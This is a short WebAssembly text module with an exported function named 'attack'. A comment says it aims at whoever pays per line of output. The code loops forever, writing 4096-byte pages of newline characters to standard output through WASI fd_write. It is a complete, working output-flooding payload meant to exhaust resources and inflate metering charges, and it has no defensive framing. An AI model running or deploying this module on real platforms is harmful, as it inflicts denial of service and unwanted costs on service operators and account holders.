;; Aims at whoever pays for each line: prints a page of line ends and nothing else, again and again.
(module
  (import "wasi_snapshot_preview1" "fd_write" (func $write (param i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 2)
  (data (i32.const 0) "\00\00\01\00\00\10\00\00")
  (func (export "attack") (result i64)
    (memory.fill (i32.const 65536) (i32.const 10) (i32.const 65536))
    (loop $again (drop (call $write (i32.const 1) (i32.const 0) (i32.const 1) (i32.const 8))) (br $again))
    (unreachable)))
